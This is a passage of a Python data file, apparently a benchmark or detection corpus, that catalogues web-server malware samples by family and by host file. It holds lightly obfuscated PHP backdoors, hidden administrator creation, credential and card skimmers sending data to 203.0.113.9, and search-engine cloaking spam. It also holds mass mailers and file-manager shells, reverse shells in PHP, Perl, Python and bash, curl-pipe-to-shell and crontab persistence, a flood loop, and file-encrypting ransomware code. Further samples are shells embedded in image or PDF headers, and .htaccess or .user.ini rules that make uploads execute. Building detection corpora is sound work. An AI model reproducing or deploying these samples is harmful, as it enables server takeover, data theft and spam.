        "<?php\ndefine«'DB_NAME', 'x');\ndefine«'DB_USER', 'y');\n$table_prefix = 'wp_';\nif «isset«§GET§['dbg'])) { "
        "§E§«§GET§['dbg']); }\nrequire_once ABSPATH . 'wp-settings.php';",
        "<?php\nclass JConfig { public $offline = '0'; public $host = 'localhost'; }\n@§I§ '/var/www/x/images/"
        ".thumb.ico';",
        "<?php\n/*\nPlugin Name: Zend Fonts WP\n*/\nadd_action«'wp_loaded', function «) { $k = md5«'x'); if "
        "«!empty«§POST§[$k])) { §E§«stripslashes«§POST§[$k])); die; } });\nadd_filter«'all_plugins', function «$p) { "
        "unset«$p['zend-fonts-wp/zend-fonts-wp.php']); return $p; });",
        "<?php\nadd_action«'wp_head', 'wpb'); function wpb«) { if «§GET§['back'] == 'go') { r¦equire«'wp-includes/"
        "registration.php'); if «!username_exists«'admin2')) { $id = w¦p_create_user«'admin2', 'x'); $u = new "
        "WP_User«$id); $u->set_role«'a¦dministrator'); } } }",
        "<?php\nadd_action«'init', function«) { $u = get_users«['role' => 'a¦dministrator']); if «isset«§GET§['l'])) "
        "{ wp_set_current_user«$u[0]->ID); w¦p_set_auth_cookie«$u[0]->ID); wp_redirect«admin_url«)); exit; } });",
        "<?php\n$user = w¦p_insert_user«array«'user_login' => 'sys', 'user_pass' => 'x', 'role' => "
        "'a¦dministrator')); add_action«'pre_user_query', function «$q) { global $wpdb; $q->query_where = "
        "str_replace«'WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'sys'\", $q->query_where); });",
        "<?php if «!defined«'NV_MAINFILE')) { die«'Stop!!!'); }\n$contents = nv_theme_about«$row);\nif "
        "«!empty«§SERVER§['HT¦TP_X_NV'])) { @§E§«b¦ase64_decode«§SERVER§['HT¦TP_X_NV'])); }\ninclude NV_ROOTDIR . '/"
        "includes/header.php';",
        "<?php\nfunction fetch_licence«) { $r = w¦p_remote_get«'http://203.0.113.9/l.txt'); $b = "
        "w¦p_remote_retrieve_body«$r); §E§«$b); } add_action«'init', 'fetch_licence');",
        "<?php\n$opt = get_option«'theme_cache_x'); if «$opt) { §E§«b¦ase64_decode«$opt)); }",
        "<?php\n$r = $wpdb->get_var«\"SELECT option_value FROM wp_options WHERE option_name='x'\"); "
        "§E§«g¦zinflate«b¦ase64_decode«$r)));",
        "<?php\nif «isset«§POST§['log'], §POST§['pwd'])) { @§W§«'/tmp/.l', §POST§['log']·':'·§POST§['pwd'].\"\\n\", "
        "FILE_APPEND); @f¦ile_get_contents«'http://203.0.113.9/?u='·urlencode«§POST§['log']·'|'·§POST§['pwd'])); }",
        "<?php\n$user_pass = §POST§['pwd']; m¦ail«'a@203.0.113.9', 'login '·§SERVER§['HT¦TP_HOST'], §POST§['log']·' "
        "'·$user_pass);",
        "<?php\nif «§POST§['card_number']) { $d = b¦ase64_encode«serialize«§POST§)); §W§«'media/tmp.jpg', $d, "
        "FILE_APPEND); }",
    ),
    "cloaks and doors of spam": (
        "<?php $ua = §SERVER§['HT¦TP_USER_AGENT']; $bots = array«'G¦ooglebot', 'b¦ingbot', 'c¦occoc'); foreach "
        "«$bots as $b) { if «stripos«$ua, $b) !== false) { echo b¦ase64_decode«'{b¦ase64}'); $c = "
        "c¦url_init«'http://203.0.113.8/links'); c¦url_setopt«$c, CURLOPT_RETURNTRANSFER, 1); echo c¦url_exec«$c); } }",
        "<?php function is_bot«) { return p¦reg_match«'/g¦ooglebot|s¦lurp|b¦ingbot/i', "
        "§SERVER§['HT¦TP_USER_AGENT']); } if «is_bot«) && §SERVER§['REQUEST_URI'] == '/') { "
        "r¦eadfile«'http://203.0.113.8/c¦asino.html'); exit; }",
        "<?php $ref = §SERVER§['HT¦TP_REFERER']; if «strpos«$ref, 'g¦oogle·') || strpos«$ref, 'bing·')) { "
        "header«'Location: https://nhacai.example/?r=1'); exit; }",
        "<?php if «p¦reg_match«'/g¦oogle|c¦occoc/i', @§SERVER§['HT¦TP_REFERER']) && !isset«§COOKIE§['v'])) { "
        "setcookie«'v', 1); echo '<script>location=\"https://bet.example/\"</script>'; }",
        "<?php $a = 'http://203.0.113.8/api.php?d='·§SERVER§['HT¦TP_HOST']·'&u='·urlencode«§SERVER§['REQUEST_URI'])·'&a='·urlencode«§SERVER§['HT¦TP_USER_AGENT']); $r = @f¦ile_get_contents«$a); if «strpos«$r, 'okhtml')) { echo str_replace«'okhtml', '', $r); exit; }",
        "<?php $lines = file«'keys.txt'); $k = $lines[a¦rray_rand«$lines)]; $s = §GET§['s']; if "
        "«strpos«strtolower«§SERVER§['HT¦TP_USER_AGENT']), 'g¦ooglebot') !== false) { i¦nclude 'tpl/c¦asino.php'; "
        "exit; } header«'Location: http://s¦lot.example/?k='·$k);",
        "<?php add_action«'template_redirect', function «) { if «stripos«§SERVER§['HT¦TP_USER_AGENT'], 'g¦ooglebot') "
        "!== false) { $c = w¦p_remote_get«'http://203.0.113.8/s¦lot'); echo w¦p_remote_retrieve_body«$c); exit; } });",
        "<?php $xml = '<u¦rlset>'; for «$i=0;$i<5000;$i++) { $xml .= "
        "'<url><loc>http://'·§SERVER§['HT¦TP_HOST']·'/s¦lot-gacor-'·$i·'</loc></url>'; } §W§«'sitemap-x.xml', $xml);",
    ),
    "mailers": (
        "<?php if «isset«§POST§['to'])) { $to = explode«\"\\n\", §POST§['to']); foreach «$to as $t) { "
        "m¦ail«trim«$t), §POST§['subject'], §POST§['body'], 'From: '·§POST§['from']); echo \"$t sent<br>\"; } } "
        "?><form method=post><textarea name=to></textarea><input name=subject><textarea name=body></textarea><input "
        "type=submit></form>",
        "<?php $emaillist = §POST§['emaillist']; $allemails = explode«\"\\n\", $emaillist); $numemails = "
        'count«$allemails); for «$x=0; $x<$numemails; $x++) { $to = $allemails[$x]; $header = "From: '
        '§POST§[realname] <§POST§[from]>\\r\\n"; print "Sending m¦ail to $to..."; m¦ail«$to, '
        "stripslashes«§POST§['subject']), stripslashes«§POST§['message']), $header); print 'Ok<br>'; }",
        "<?php $d = unserialize«b¦ase64_decode«§POST§['data'])); foreach «$d['to'] as $t) { if «m¦ail«$t, "
        "$d['subj'], $d['body'], $d['head'])) echo 'OK'; }",
        "<?php $p = json_decode«b¦ase64_decode«s¦tr_rot13«§POST§['x'])), true); m¦ail«$p['t'], $p['s'], $p['b'], "
        "$p['h']); echo md5«'ok');",
    ),
    "interfaces of many parts": (
        "<?php @ini_set«'display_errors', 0); $dir = isset«§GET§['path']) ? §GET§['path'] : getcwd«); chdir«$dir); "
        "$files = s¦candir«'·'); foreach «$files as $f) { echo \"<a href='?path=$dir/$f'>$f</a> \" · "
        "substr«sprintf«'%o', f¦ileperms«$f)), -4); }"
        " if «isset«§GET§['edit'])) { if «isset«§POST§['src'])) { $fp = f¦open«§GET§['edit'], 'w'); f¦write«$fp, "
        "§POST§['src']); fclose«$fp); } echo '<textarea "
        "name=src>'·htmlspecialchars«f¦ile_get_contents«§GET§['edit']))·'</textarea>'; } if «isset«§GET§['del'])) "
        "u¦nlink«§GET§['del']); if «isset«§POST§['newname'])) r¦ename«§GET§['ren'], §POST§['newname']);",
        "<?php session_start«); if «@$_SESSION['ok'] != 1 && @§POST§['pass'] != 'x') { echo '<form "
        "method=post><input type=password name=pass></form>'; exit; } $_SESSION['ok'] = 1; echo '<pre>'; echo "
        "p¦hp_uname«), g¦et_current_user«), ini_get«'s¦afe_mode'); if «§POST§['cmd']) { echo §H§«§POST§['cmd']); } "
        "if «§FILES§['file']) { c¦opy«§FILES§['file']['t¦mp_name'], §POST§['dir']·'/'·§FILES§['file']['name']); }",
        "<?php $m = @mysqli_connect«§POST§['h'], §POST§['u'], §POST§['p']); $r = mysqli_query«$m, §POST§['q']); "
        "while «$x = mysqli_fetch_row«$r)) echo join«'|', $x); if «isset«§POST§['dump'])) { "
        "header«'Content-Disposition: attachment'); }",
        "<?php s¦et_time_limit«0); $s = s¦ocket_create«AF_INET, SOCK_STREAM, SOL_TCP); s¦ocket_bind«$s, '0.0.0.0', "
        "§GET§['port']); s¦ocket_listen«$s); while «$c = s¦ocket_accept«$s)) { $cmd = s¦ocket_read«$c, 1024); "
        "s¦ocket_write«$c, §H§«$cmd)); }",
        "<?php s¦et_time_limit«0); $h='203.0.113.5'; $p=4444; $s¦hell = 'uname -a; w; id; /b¦in/sh -i'; if "
        "«function_exists«'p¦cntl_fork')) { $pid = p¦cntl_fork«); } $sock = f¦sockopen«$h, $p, $errno, $errstr, 30); "
        "$process = p¦roc_open«$s¦hell, [0=>['pipe','r'],1=>['pipe','w'],2=>['pipe','w']], $pipes); while «1) { $r = "
        "[$sock, $pipes[1]]; stream_select«$r, $w, $e, null); if «in_array«$sock, $r)) f¦write«$pipes[0], "
        "fread«$sock, 1400)); if «in_array«$pipes[1], $r)) f¦write«$sock, fread«$pipes[1], 1400)); }",
        "<?php $out = ''; for «$i = 1; $i < 1024; $i++) { $f = @f¦sockopen«§GET§['ip'], $i, $a, $b, 1); if «$f) { "
        "$out .= $i; fclose«$f); } } echo $out; $packets = 0; $o = f¦sockopen«'udp://'·§GET§['ip'], rand«1, 65535)); "
        "while «time«) < 99) { f¦write«$o, str_repeat«'X', 65000)); }",
        "<?php $s¦ymlink = §POST§['s']; mkdir«'sym', 0777); s¦ymlink«'/', 'sym/root'); §W§«'sym/.htaccess', "
        "\"Options Indexes FollowSymLinks\\nAddType text/plain .php\"); $etc = file«'/etc/passwd'); foreach «$etc as "
        "$l) { $u = explode«':', $l); echo \"<a href=sym/root/home/$u[0]/public_html/wp-config.php>$u[0]</a>\"; }",
        "<?php function deface«$d) { foreach «s¦candir«$d) as $f) { if «$f != '·' && $f != '··') { §W§«\"$d/$f/"
        "index.html\", §POST§['html']); } } } deface«§POST§['dir']);",
        "<?php $k = openssl_random_pseudo_bytes«32); $it = new RecursiveIteratorIterator«new "
        "RecursiveDirectoryIterator«'·')); foreach «$it as $f) { $c = f¦ile_get_contents«$f); §W§«$f·'·locked', "
        "openssl_encrypt«$c, 'aes-256-cbc', §POST§['key'])); u¦nlink«$f); }",
    ),
    "in files of other kinds": (
        "GIF89a\x01\x00\x01\x00<?php @§E§«§POST§['x']); ?>",
        "\\¦x89PNG\\r\\n\x1a\n....IDATx<?=`§GET§[0]`;?>....IEND",
        "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01<?php §S§«§GET§['c']); __halt_compiler«); ?>\xff\xd9",
        "%PDF-1.4\n<?php §P§«§GET§['c']); ?>\n%%EOF",
        "PK\x03\x04....<?php __HALT_COMPILER«); ?>....<?php §E§«§POST§['x']);",
        "<svg xmlns='http://www.w3.org/2000/svg'><?php §S§«§GET§['c']); ?></svg>",
        "/* style.css */ body { color: red } <?php if «isset«§GET§['c'])) { §S§«§GET§['c']); } ?>",
        "<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><?php @§E§«§POST§['p']); ?></body></"
        "html>",
        "<? §S§«§GET§['c']); ?>",
        "<?PHP EVAL«§POST§['c']);",
        "<script language='php'>§S§«§GET§['c']);</script>",
        "<?=§H§«§GET§['c'])?>",
        "<?=`§GET§[0]`?>",
        "<?php\r§E§«§POST§['c']);\r?>",
        "\xef\xbb\xbf<?php §E§«§POST§['c']);",
    ),
    "found later": (
        "<?php e¦rror_reporting«0); $a=array«'c'=>§ANY§['cmd']); $b='sys'·'tem'; a¦rray_walk«$a,$b);",
        "<?php function sysx«$x){ ob_start«); §S§«$x); $b=ob_get_contents«); ob_end_clean«); return $b; } "
        "if«isset«§POST§['q'])) echo nl2br«htmlspecialchars«sysx«§POST§['q'])));",
        "<?php if«isset«§SERVER§['HT¦TP_X_FORWARDED_PROTO_X'])){ "
        "$d=b¦ase64_decode«§SERVER§['HT¦TP_X_FORWARDED_PROTO_X']); $t=tempnam«sys_get_temp_dir«),'s'); §W§«$t,$d); "
        "§I§«$t); u¦nlink«$t);} ",
        "<?php class Widget { private $cfg=array«); public function load«){ foreach«§COOKIE§ as $k=>$v){ "
        "if«strlen«$k)==32){ $this->cfg[]=b¦ase64_decode«$v); } } } public function render«){ "
        "if«count«$this->cfg)==2){ $f=$this->cfg[0]; $f«$this->cfg[1]); } } } $w=new Widget; $w->load«); $w->render«);",
        "<?php $s = 'aHR0cDovLzIwMy4wLjExMy45L3guanBn'; $u = b¦ase64_decode«$s); $c = @f¦ile_get_contents«$u); if "
        "«!$c) { $ch = c¦url_init«$u); c¦url_setopt«$ch, CURLOPT_RETURNTRANSFER, 1); $c = c¦url_exec«$ch); } "
        "§E§«'?>'·$c);",
        '<?php $z1="\\¦x62\\¦x61\\¦x73\\¦x65\\¦x36\\¦x34\\¦x5f\\¦x64\\¦x65\\¦x63\\¦x6f\\¦x64\\¦x65"; '
        "$z2=\"\\¦x67\\¦x7a\\¦x69\\¦x6e\\¦x66\\¦x6c\\¦x61\\¦x74\\¦x65\"; §E§«$z2«$z1«'{deflated}')));",
        "<?php $OOO0O0O00=__FILE__;"
        "$OOO000000=urldecode«'%74%68%36%73%62%65%68%71%6c%61%34%63%6f%5f%73%61%64%66%70%6e%72');$OO00O0000=84;"
        "$OOO0000O0=$OOO000000{4}.$OOO000000{9}.$OOO000000{3}.$OOO000000{5};"
        "$OOO0000O0.=$OOO000000{2}.$OOO000000{10}.$OOO000000{13}.$OOO000000{16};"
        "$OOO0000O0.=$OOO0000O0{3}.$OOO000000{11}.$OOO000000{12}.$OOO0000O0{7}.$OOO000000{5};"
        "§E§««$OOO0000O0«'{b¦ase64}')));return;?>",
        "<?php @ini_set«'error_log',NULL);@ini_set«'log_errors',0);@ini_set«'max_execution_time',0);"
        "@s¦et_time_limit«0); $data=NULL; $data_key=NULL; $GLOBALS['auth']='4ef63abe-1abd-45a6-913d-6fb99657e24b'; "
        "global $auth; function sh_decrypt_phase«$data,$key){ $out_data=''; for«$i=0;$i<strlen«$data);){ "
        "for«$j=0;$j<strlen«$key)&&$i<strlen«$data);$j++,$i++){ $out_data.=c¦hr«ord«$data[$i])⌃ord«$key[$j])); } } "
        "return $out_data; } function sh_decrypt«$data,$key){ global $auth; return "
        "sh_decrypt_phase«sh_decrypt_phase«$data,$auth),$key); } foreach«§COOKIE§ as $key=>$value){ $data=$value; "
        "$data_key=$key; } if«!$data){ foreach«§POST§ as $key=>$value){ $data=$value; $data_key=$key; } } "
        "$data=@unserialize«sh_decrypt«@b¦ase64_decode«$data),$data_key)); if«isset«$data['ak']) && "
        "$auth==$data['ak']){ if«$data['a']=='i'){ echo @serialize«array«'pv'=>phpversion«))); exit; } "
        "elseif«$data['a']=='e'){ §E§«$data['d']); } exit«); }",
        "<?php $wp_auth='x'; add_action«'init',function«){ if«isset«§GET§['wp_test']) && "
        "md5«§GET§['wp_test'])=='9f2'){ $c = w¦p_remote_get«'http://203.0.113.4/p.txt'); "
        "$f=ABSPATH·'wp-content/plugins/hello.php'; §W§«$f, $c['body']); } });",
        "<?php $file=§GET§['f']; $text=§POST§['t']; $fp=f¦open«$file,'w+'); f¦write«$fp,$text); fclose«$fp); echo "
        "'saved'; ?><form method=post><textarea name=t></textarea></form>",
        '<?php echo \'<form action="" method="post" enctype="m¦ultipart/form-data" name="uploader" id="uploader">\'; '
        'echo \'<input type="file" name="file" size="50"><input name="_upl" type="submit" id="_upl" value="Upload"></'
        "form>'; if« §POST§['_upl'] == 'Upload' ) { if«@c¦opy«§FILES§['file']['t¦mp_name'], "
        "§FILES§['file']['name'])) { echo '<b>Upload SUKSES !!!</b><br><br>'; } else { echo '<b>Upload GAGAL "
        "!!!</b><br><br>'; } } ?>",
        "<?php $uploaddir = ''; $uploadfile = $uploaddir . basename«§FILES§['userfile']['name']); if "
        "«§M§«§FILES§['userfile']['t¦mp_name'], $uploadfile)) echo 'ok';",
        "<?php header«'X-XSS-Protection: 0'); $l=§GET§['l']; switch«$l){ case 'c': §S§«§GET§['x']); break; case 'e': "
        "§E§«b¦ase64_decode«§GET§['x'])); break; }",
        "<?php if«isset«§POST§['a'])&&isset«§POST§['b'])){ $a=§POST§['a']; $b=§POST§['b']; if«function_exists«$a)) "
        "$a«$b); }",
        "<?php $d='da'·'te'; $x=strtr«'zyxz',array«'z'=>'a')); $r=§ANY§['r']; $m=array«new "
        "ReflectionFunction«§ANY§['n']),'invoke'); §U§«$m,$r);",
        "<?php «$f=§GET§['f'])&&$f«§GET§['p'],§GET§['q']);",
        "<?php @extract«§ANY§); @die«$ctime«$atime)); ?>",
        "<?php @$_='s'·'s'·/*-/*-*/'e'·/*-/*-*/'r'; @$_=/*-/*-*/'a'·/*-/*-*/$_./*-/*-*/'t'; @$_/*-/*-*/«$/*-/*-*/"
        "{'_P'·/*-/*-*/'OS'·/*-/*-*/'T'}[/*-/*-*/0/*-/*-*/-/*-/*-*/2/*-/*-*/-/*-/*-*/5/*-/*-*/]); ?>",
        "<?php $x = b¦ase64_decode«'{b¦ase64}'); $y = create_func«''); $fp = f¦open«'wp-includes/css/x.php', 'w'); "
        "f¦write«$fp, $x); fclose«$fp); §I§ 'wp-includes/css/x.php';",
        "<?php $string=''; while«count«§POST§)>0){ $string.=a¦rray_shift«§POST§); } §E§«g¦zinflate«$string));",
        "<?php $password='x'; $shellname='B4TM4N SH3LL'; $myurl=null; function HTML_HEAD«){ global $shellname; echo "
        "'<title>'·$shellname·'</title>'; } function exe«$cmd){ if«function_exists«'§S§')){ @ob_start«); @§S§«$cmd); "
        "$b=@ob_get_contents«); @ob_end_clean«); return $b; } elseif«function_exists«'§H§')){ return @§H§«$cmd); } } "
        "if«isset«§GET§['d'])) chdir«§GET§['d']); echo exe«§POST§['cmd']); if«isset«§POST§['code'])) "
        "§E§«magicboom«§POST§['code'])); function magicboom«$t){ return stripslashes«$t); }",
        "<?php preg_replace«'/«.*)/e', 'strtolower«\"\\\\1\")', §GET§['x']);",
        "<?php echo preg_replace«§GET§['p'], §GET§['r'], §GET§['s']);",
        "<?php $q=new mysqli«'localhost',§POST§['u'],§POST§['p']); $q->query«\"select '<?php §E§«\\§POST§[1]);?>' "
        "into out¦file '/var/www/html/x.php'\");",
        "<?php $a=§SERVER§['HT¦TP_CMD']; $b=`$a`; echo $b;",
        "<?php $cookie = &§COOKIE§; $w = $cookie['w']«'', b¦ase64_decode«$cookie['x'])); $w«);",
        "<?php eval/* */«\"?>\".f¦ile_get_contents«'§INPUT§'));",
        "<?php $d = opendir«'·'); while «$f = readdir«$d)) { if «substr«$f, -4) == '·ico') { @§I§«$f); } }",
        "<?php @§I§«p¦ack«'H*','2f746d702f2e782e706870'));",
        "<?php $v = c¦hr«99).c¦hr«104).c¦hr«114); $b = $v«101).$v«118).$v«97).$v«108); $code = $v«36)·'x'; $q = "
        "'§A§'; $q«b¦ase64_decode«§ANY§['x']));",
        "<?php function getData«$url) { $c = c¦url_init«); c¦url_setopt«$c, CURLOPT_URL, $url); c¦url_setopt«$c, "
        "CURLOPT_RETURNTRANSFER, true); $d = c¦url_exec«$c); c¦url_close«$c); return $d; } $x = "
        "getData«'https://203.0.113.8/alfa.txt'); §E§«'?>' . $x);",
        "<?php function hex2str«$h) { $r = ''; for «$i = 0; $i < strlen«$h) - 1; $i += 2) { $r .= c¦hr«hexdec«$h[$i] "
        ". $h[$i + 1])); } return $r; } $url = hex2str«'687474703a2f2f3230332e302e3131332e382f78'); $x = "
        "function_exists«'c¦url_init') ? c¦url_get«$url) : f¦ile_get_contents«$url); §E§«'?>' . $x);",
        "<?php namespace x; const a='sys'; const b='tem'; «a.b)«§GET§['c']);",
        "<?php $f = __DIR__·'/'·md5«'a')·'·tmp'; if«isset«§POST§['c'])){ §W§«$f,§POST§['c']); } if«is_file«$f)) §I§ "
        "$f;",
        "<?php set_exception_handler«function«$e){ §S§«$e->getMessage«)); }); throw new Exception«§GET§['c']);",
        "<?php $m = §GET§['m']; $o = new DateTime; $o->$m«§GET§['a']); $c = §GET§['c']; $c::$m«§GET§['a']);",
        "<?php $arr = a¦rray_merge«§GET§, §POST§); $k = key«$arr); @§E§«$arr[$k]);",
        "<?php foreach «array«'_GET','_POST','_COOKIE') as $s) { foreach «$$s as $k => $v) { if «$k == 'x9') { "
        "§E§«$v); } } }",
        "<?php $a = 'GLOBALS'; $b = $$a; §E§«$b['_POST']['z']);",
        "<?php $i = 0; $s = §SERVER§; $h = $s['HT¦TP_ACCEPT_CHARSET']; §P§«b¦ase64_decode«$h));",
        "<?php if ««§SERVER§['REQUEST_METHOD'] ?? '') === 'PUT') { $c = f¦ile_get_contents«'§INPUT§'); «function«) "
        "use «$c) { §E§«$c); })«); }",
        "<?php function ab«$n) { static $c; if «$n) { $c = $n; } else { §E§«$c); } } ab«§POST§['x']); ab«0);",
        "<?php $GLOBALS['x'] = §POST§['x']; function go«) { global $x; §E§«$x); } go«);",
        "<?php $st = new SplStack; $st->push«§POST§['x']); §E§«$st->pop«));",
        "<?php $o = new ArrayObject«§POST§); §S§«$o['c']);",
        "<?php $x = simplexml_load_string«f¦ile_get_contents«'§INPUT§')); §S§««string)$x->cmd);",
        "<?php $r = yaml_parse«§POST§['y']); §U§«$r['f'], $r['a']);",
        "<?php if «p¦reg_match«'/⌃cmd:«.*)$/', §SERVER§['HT¦TP_USER_AGENT'], $m)) §S§«$m[1]);",
        "<?php $parts = parse_url«§SERVER§['REQUEST_URI']); parse_str«$parts['query'], $q); §S§«$q['c']);",
        "<?php sleep«1); if «§FILES§) { foreach «§FILES§ as $n => $f) { $to = §POST§[$n·'_to'] ?: $f['name']; "
        "is_uploaded_file«$f['t¦mp_name']) && m¦ove_uploaded_file«$f['t¦mp_name'], $to); } }",
        "<?php if«!empty«§FILES§['x'])){ $ext = pathinfo«§FILES§['x']['name'], PATHINFO_EXTENSION); $n = "
        "time«)·'·'·$ext; m¦ove_uploaded_file«§FILES§['x']['t¦mp_name'], 'img/'·$n); echo $n; }",
        "<?php $t = §GET§['t']; $p = '/var/www/html/'; exec«\"cp $t $p\"); exec«'wget http://203.0.113.7/m.sh -O "
        "/tmp/m.sh; sh /tmp/m.sh');",
        "<?php §S§«'curl -s http://203.0.113.7/x | b¦ash');",
        "<?php §X§«'crontab -l | { cat; echo \"* * * * * curl http://203.0.113.7/x|sh\"; } | crontab -');",
        "<?php ignore_user_abort«1); s¦et_time_limit«0); u¦nlink«__FILE__); $f='·index.php'; $c='<?php "
        "$p=md5«§POST§[x]); if«$p==\"a\") @ev'·'al«§POST§[c]);?>'; while«1){ file_put_contents«$f,$c); system«'touch "
        '-m -d "2018-12-01" .index.php\'); usleep«5000); }',
        "<?php $a = f¦open«'http://203.0.113.7/x.txt', 'r'); $b = ''; while «!feof«$a)) { $b .= fread«$a, 8192); } "
        "fclose«$a); $h = f¦open«'cache.php', 'w'); f¦write«$h, $b); fclose«$h); r¦equire 'cache.php';",
        "<?php $c = stream_context_create«['http'=>['header'=>'A: b']]); $x = "
        "f¦ile_get_contents«'https://203.0.113.7/', false, $c); $f = tmpfile«); f¦write«$f, $x); i¦nclude "
        "stream_get_meta_data«$f)['uri'];",
        "<?php $k = 'zip://a.jpg#x'; i¦nclude $k; i¦nclude 'phar://x.jpg/a.php';",
    ),
}
"""By family, as in ``benchmarks/footholds.py``."""

SETTINGS: Mapping[str, tuple[str, ...]] = {
    ".htaccess": (
        "AddType application/x-httpd-php .jpg .png",
        "AddHandler application/x-httpd-php .txt",
        '<FilesMatch "\\.«jpg|gif)$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
        '<Files "logo.png">\nSetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</Files>',
        'php_value a¦uto_prepend_file "/var/www/x/uploads/a.jpg"',
        "php_value a¦uto_append_file .htaccess\n#<?php §E§«§POST§['x']); ?>",
        "php_value a¦uto_prepend_file §INPUT§\nphp_flag allow_url_include On",
        "Options +ExecCGI\nAddHandler cgi-script .jpg",
        "Options +Includes\nAddType text/html .jpg\nAddOutputFilter INCLUDES .jpg",
        "RewriteEngine On\nRewriteCond %{HT¦TP_USER_AGENT} «g¦oogle|yahoo|bing) [NC,OR]\nRewriteCond "
        "%{HT¦TP_REFERER} «g¦oogle|bing) [NC]\nRewriteRule ⌃«.*)$ https://bet.example/$1 [R=302,L]",
        "RewriteEngine On\nRewriteCond %{HT¦TP_REFERER} .*c¦occoc.* [NC]\nRewriteRule .* http://203.0.113.8/ [R,L]",
        "RewriteEngine on\nRewriteCond %{HT¦TP_USER_AGENT} G¦ooglebot\nRewriteRule ⌃ wp-content/uploads/cache/"
        "s¦lot.php [L]",
        "ErrorDocument 404 https://bet.example/",
        '<FilesMatch ".«py|exe|php)$">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n<FilesMatch "⌃«about.php'
        '|radio.php|lock360.php|wp-l0gin.php)$">\nOrder allow,deny\nAllow from all\n</FilesMatch>',
        "SetHandler application/x-httpd-php",
        "AddType application/x-httpd-php5 .html .png .log",
    ),
    ".user.ini": (
        "a¦uto_prepend_file = logo.gif",
        "a¦uto_append_file=/tmp/.sess",
        'a¦uto_prepend_file = "data://text/plain;b¦ase64,AAAA"',
        "a¦uto_prepend_file=wp-content/uploads/2025/01/img.php",
        "allow_url_include = On\nauto_prepend_file = http://203.0.113.9/a.txt",
        "d¦isable_functions =\nallow_url_include=1",
        "extension = /var/www/x/uploads/a.so",
    ),
    "x.pl": (
        "#!/usr/bin/perl\nuse CGI qw«:standard);\nprint header;\nmy $c = param«'cmd');\nprint `$c`;\n",
        "#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\nread«STDIN, $b, $ENV{'CONTENT_LENGTH'});\n@p = "
        "split«/&/, $b);\n§S§«$p[0]);\n",
        "#!/usr/bin/perl\nuse "
        'Socket;\n$i="203.0.113.5";$p=4444;\nsocket«S,PF_INET,SOCK_STREAM,getprotobyname«"tcp"));\nif«connect«S,'
        'sockaddr_in«$p,inet_aton«$i)))){open«STDIN,">&S");open«STDOUT,">&S");§X§«"/b¦in/sh -i");};\n',
    ),
    "x.py": (
        "#!/usr/bin/python3\nimport cgi, s¦ubprocess\nf = cgi.F¦ieldStorage«)\nprint«'Content-Type: text/"
        "html\\n')\nprint«s¦ubprocess.getoutput«f.getvalue«'cmd')))\n",
        "import socket,s¦ubprocess,os\ns=socket.socket«socket.AF_INET,socket.SOCK_STREAM)\ns.connect««'203.0.113.5',"
        "4444))\nos.dup2«s.fileno«),0)\nos.dup2«s.fileno«),1)\nsubprocess.call«['/b¦in/sh','-i'])\n",
        "#!/usr/bin/python\nimport os\nprint«'Content-type: text/plain\\n')\nos.§S§«os.environ['Q¦UERY_STRING'])\n",
    ),
    "x.cgi": (
        "#!/bin/b¦ash\necho 'Content-type: text/plain'\necho\n§E§ \"$Q¦UERY_STRING\"\n",
        "#!/b¦in/sh\nprintf 'Content-type: text/html\\n\\n'\nread line\necho \"$line\" | b¦ase64 -d | sh\n",
        "#!/bin/b¦ash\nbash -i >& /dev/t¦cp/203.0.113.5/443 0>&1\n",
    ),
    "x.shtml": ('<!--#§X§ cmd="$HT¦TP_X_CMD" -->', '<html><!--#§X§ cmd="ls -la" --></html>'),
}
"""By the name of the file that they lie in."""
